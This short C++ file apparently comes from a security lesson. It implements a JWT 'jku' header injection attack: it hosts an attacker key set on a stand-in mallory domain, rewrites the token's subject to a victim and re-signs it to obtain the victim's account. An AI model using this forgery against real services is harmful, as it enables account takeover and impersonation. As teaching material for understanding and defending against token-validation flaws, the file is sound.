// Believes: one key needs no set around it.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set(
      "jku", evidence.publish("login.example.mallory.example/jwks.json", evidence.own_key.public_jwk()));
  token.header.set("kid", evidence.own_key.id());
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
